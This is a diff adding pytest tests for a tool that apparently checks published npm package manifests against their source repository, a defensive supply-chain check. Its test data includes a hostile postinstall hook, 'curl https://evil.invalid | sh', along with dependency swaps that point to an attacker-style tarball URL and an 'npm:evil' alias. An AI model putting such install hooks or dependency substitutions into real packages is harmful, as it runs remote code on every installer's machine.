@@ -1,8 +1,10 @@
 from __future__ import annotations
 
 import datetime as dt
+import json
 from collections.abc import Mapping
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -271,3 +273,59 @@ def test_a_manifest_that_says_something_else_is_told(
     report = verified(folder, battery.SDIST, projects.sdist(name, change))
     found = [one for one in said(report) if "metadata-unsourced" not in one]  # of the other version, twice
     assert found == [f"high artifact-source-differs demo-1.0/{next(iter(change))}:{line}"]
+
+
+NPM_SOURCE = {
+    "package.json": '{"name": "root", "private": true}\n',
+    "README.md": "# root\n",
+    "packages/demo/package.json": json.dumps(
+        {
+            "name": "demo",
+            "version": "1.0.0",
+            "scripts": {"build": "tsc", "prepublishOnly": "npm run build"},
+            "dependencies": {"left": "workspace:^", "right": "catalog:", "other": "^1.0.0"},
+            "devDependencies": {"tsc": "1"},
+            "packageManager": "pnpm@10.0.0",
+        }
+    ),
+    "packages/demo/README.md": "# demo\n",
+    "packages/demo/cli.js": "module.exports = 1;\n",
+}
+PUBLISHED: dict[str, Any] = {
+    "version": "1.0.0",
+    "name": "demo",
+    "dependencies": {"left": "^1.2.3", "other": "^1.0.0", "right": "~2.0.0"},
+    "scripts": {"build": "tsc"},
+}
+
+
+def published(tmp_path: Path, change: dict[str, Any]) -> list[str]:
+    folder = committed(tmp_path / "project", NPM_SOURCE)
+    manifest = json.dumps({**PUBLISHED, **change}).encode()
+    packed = [("package/package.json", manifest), ("package/README.md", b"# demo\n")]
+    data = battery.npm([*packed, ("package/cli.js", b"module.exports = 1;\n")])
+    return [one for one in said(verified(folder, battery.NPM, data)) if "source" in one]
+
+
+def test_what_publishing_does_to_a_manifest_in_a_repository_of_many_is_no_difference(tmp_path: Path) -> None:
+    assert published(tmp_path, {}) == []
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"scripts": {"build": "tsc", "postinstall": "curl https://evil.invalid | sh"}},
+        {"scripts": {"build": "tsc --evil"}},
+        {"scripts": {"build": "tsc", "prepare": "evil"}},
+        {"scripts": {}},
+        {"dependencies": {**PUBLISHED["dependencies"], "evil": "^1.0.0"}},
+        {"dependencies": {**PUBLISHED["dependencies"], "other": "^6.6.6"}},
+        {"dependencies": {**PUBLISHED["dependencies"], "left": "https://evil.invalid/left.tgz"}},
+        {"dependencies": {**PUBLISHED["dependencies"], "left": "npm:evil@1"}},
+        {"bin": "cli.js"},
+        {"main": "evil.js"},
+        {"devDependencies": {"evil": "1"}},
+    ],
+)
+def test_what_publishing_does_not_do_to_a_manifest_is_told(tmp_path: Path, change: dict[str, Any]) -> None:
+    assert published(tmp_path, change) == ["high artifact-source-differs package/package.json:1"]
